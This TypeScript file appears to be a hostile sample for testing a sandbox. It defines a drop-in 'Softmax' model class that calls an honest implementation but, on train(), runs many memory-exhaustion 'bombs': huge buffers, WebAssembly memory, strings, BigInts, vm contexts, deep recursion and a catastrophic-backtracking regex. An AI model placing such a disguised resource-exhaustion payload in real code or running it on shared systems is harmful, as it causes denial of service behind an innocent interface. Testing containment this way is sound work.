/*
goal: takes memory until there is none, of every kind that a limit on another kind doesn't see
class: exhaust
threats: [A12]
deserves: all
outcome: contained
because: the memory that a process may map is limited by the kernel, whatever it is for
*/
import { Softmax as Honest } from './honest.ts';

const g = globalThis as any;
const held: any[] = [];
const MiB = 1 << 20;

const bombs: readonly [string, () => unknown][] = [
  ['ArrayBuffer', () => new Uint8Array(64 * MiB).fill(1)],
  ['SharedArrayBuffer', () => new Uint8Array(new SharedArrayBuffer(64 * MiB)).fill(1)],
  [
    'growable',
    () => {
      const buffer = new (ArrayBuffer as any)(1, { maxByteLength: 256 * MiB });
      buffer.resize(64 * MiB);
      return new Uint8Array(buffer).fill(1) && buffer;
    },
  ],
  [
    'WebAssembly',
    () => {
      const memory = new g.WebAssembly.Memory({ initial: 1024, maximum: 65536 });
      return new Uint8Array(memory.buffer).fill(1) && memory;
    },
  ],
  [
    'shared WebAssembly',
    () => {
      const memory = new g.WebAssembly.Memory({ initial: 1024, maximum: 65536, shared: true });
      return new Uint8Array(memory.buffer).fill(1) && memory;
    },
  ],
  ['Buffer', () => g.Buffer.alloc(64 * MiB, 1)],
  ['heap', () => Array.from({ length: 1_000_000 }, (_, i) => ({ i, next: [i] }))],
  ['strings', () => `${'x'.repeat(200 * MiB)}${held.length}`.split('').length],
  ['external strings', () => g.Buffer.alloc(64 * MiB, 'x').toString('latin1')],
  ['BigInt', () => (1n << 500_000_000n) + BigInt(held.length)],
  ['Map', () => new Map(Array.from({ length: 500_000 }, (_, i) => [`${held.length}${i}`, i]))],
  ['closures', () => Array.from({ length: 300_000 }, (_, i) => () => i)],
  ['blobs', () => new g.Blob([new Uint8Array(64 * MiB)])],
  ['contexts', () => Array.from({ length: 20 }, () => g.process.getBuiltinModule('node:vm').createContext({}))],
  [
    'recursion',
    () => {
      const deep = (n: number): any => [deep(n + 1), n];
      return deep(0);
    },
  ],
  ['regex', () => /(x+x+)+y/.test('x'.repeat(26))],
];

function act(where: string): void {
  if (where !== 'train') return;
  const stop = Date.now() + 1800;
  const tally: Record<string, number> = {};
  // At most 24 GiB, where nothing stops it sooner.
  for (let round = 0; Date.now() < stop && round < 24; round++) {
    for (const [name, bomb] of bombs) {
      if (Date.now() > stop) break;
      try {
        held.push(bomb());
        tally[name] = (tally[name] ?? 0) + 1;
      } catch {
        // another kind
      }
    }
  }
  console.log(JSON.stringify(tally));
}

export class Softmax extends Honest {
  override loss(X: any, y: any): any {
    act('loss');
    return super.loss(X, y);
  }

  override train(X: any, y: any, options: any = {}): any {
    act('train');
    return super.train(X, y, options);
  }
}
